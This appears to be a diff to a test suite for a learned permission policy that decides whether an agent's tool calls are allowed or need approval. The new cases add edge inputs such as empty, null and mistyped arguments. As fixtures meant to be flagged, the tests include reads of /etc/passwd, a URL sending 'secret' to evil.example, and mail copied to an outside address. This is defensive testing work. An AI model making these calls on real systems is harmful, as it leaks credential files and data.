@@ -99,6 +99,14 @@ describe('a policy that is learned', () => {
     ['read_file', { path: '/data/out/report.txt', lines: 90 }],
     ['get_page', { url: 'https://files.example.com/' }],
     ['get_status', {}],
+    // Null, an empty text and an empty list say as little as nothing.
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: '' }],
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: [] }],
+    ['upload', { url: 'https://files.example.com/a/b' }],
+    ['upload', { url: 'https://files.example.com/a/b', tags: null }],
+    ['read_file', { path: '/data/in/list.csv' }],
+    ['read_file', { lines: 10, path: null }],
+    ['read_file', {}],
   ])('lets pass what differs in nothing that matters: %s %j', (tool, args) => {
     expect(decide([tool, args])).toBe('allow')
   })
@@ -107,9 +115,20 @@ describe('a policy that is learned', () => {
     ['send_mail', { to: ['eve@example.net'], subject: 'Hello' }],
     ['send_mail', { to: ['ann@example.com', 'eve@example.net'], subject: 'Hello' }],
     ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: 'eve@example.net' }],
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: ['eve@example.net'] }],
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: { a: 'eve@example.net' } }],
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: {} }],
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: [null] }],
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: 0 }],
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: false }],
+    ['send_mail', { to: ['ann@example.com'], subject: 'Hello', cc: ' ' }],
+    ['send_mail', { to: null, subject: 'Hello' }],
+    ['send_mail', { subject: 'Hello' }],
+    ['send_mail', { to: ['ann@example.com'] }],
     ['send_mail', { to: ['ann@example.com'], subject: 'Hello', bcc: 'eve@example.net' }],
     ['send_mail', { to: ['ann@example.com'], subject: 'Hello', bcc: null }],
     ['send_mail', { to: 'ann@example.com', subject: 'Hello' }],
+    ['send_mail', { to: { a: 'ann@example.com' }, subject: 'Hello' }],
     ['send_mail', { to: [], subject: 'Hello' }],
     ['send_mail', { to: [['eve@example.net']], subject: 'Hello' }],
     ['send_mail', { to: ['ANN@example.com'], subject: 'Hello' }],
@@ -134,6 +153,10 @@ describe('a policy that is learned', () => {
     ['post_page', { url: 'https://www.example.org@evil.example/' }],
     ['read_file', { path: '/etc/passwd', lines: 10 }],
     ['read_file', { path: '/data/in/list.csv', lines: 1_000_000 }],
+    ['read_file', { path: ['/etc/passwd'], lines: 10 }],
+    ['read_file', { path: { a: '/data/in/list.csv' } }],
+    ['read_file', { path: 5 }],
+    ['read_file', { path: '/data/in/list.csv', encoding: 'utf8' }],
     ['get_page', { url: 'https://evil.example/?q=secret' }],
     ['get_secret', { name: 'x' }],
     ['delete_all', {}],
@@ -148,6 +171,37 @@ describe('a policy that is learned', () => {
     expect(decide(['confirm', { code: '65432' }], ['changed'])).toBe('require_approval')
     const alone = decider([['confirm', { code: '123456' }]])
     expect(alone(['confirm', { code: '654321' }], ['changed'])).toBe('require_approval')
+  })
+
+  test('an argument that is a text in one call and an object in another is taken as a whole', () => {
+    const both = decider([
+      ['send_mail', { to: 'ann@example.com' }],
+      ['send_mail', { to: { name: 'Ann', cc: null } }],
+      ['find_mail', { from: ['ann@example.com'] }],
+      ['find_mail', { from: { name: 'Ann' } }],
+    ])
+    expect(both(['send_mail', { to: 'ann@example.com' }])).toBe('allow')
+    expect(both(['send_mail', { to: { name: 'Ann' } }])).toBe('allow')
+    expect(both(['find_mail', { from: ['bob@example.com'] }])).toBe('allow')
+    expect(both(['send_mail', { to: { name: 'Eve' } }])).toBe('require_approval')
+    expect(both(['send_mail', { to: { cc: 'eve@example.net' } }])).toBe('require_approval')
+    expect(both(['send_mail', { to: { name: 'Ann', cc: 'eve@example.net' } }])).toBe(
+      'require_approval',
+    )
+    expect(both(['send_mail', { to: ['ann@example.com'] }])).toBe('require_approval')
+    expect(both(['find_mail', { from: { name: 'Ann', folder: 'all' } }])).toBe('require_approval')
+  })
+
+  test('an argument whose name looks like a pattern is one like others', () => {
+    const odd = decider([
+      ['save', { '*a': null, 'b/*': 'x' }],
+      ['find_it', { '*a': null }],
+    ])
+    expect(odd(['save', { 'b/*': 'x' }])).toBe('allow')
+    expect(odd(['save', { '*a': 'y', 'b/*': 'x' }])).toBe('require_approval')
+    expect(odd(['save', { b: 'x' }])).toBe('require_approval')
+    expect(odd(['find_it', {}])).toBe('allow')
+    expect(odd(['find_it', { '*a': 'y' }])).toBe('require_approval')
   })
 
   test('tools that nobody called are denied where that is wanted', () => {
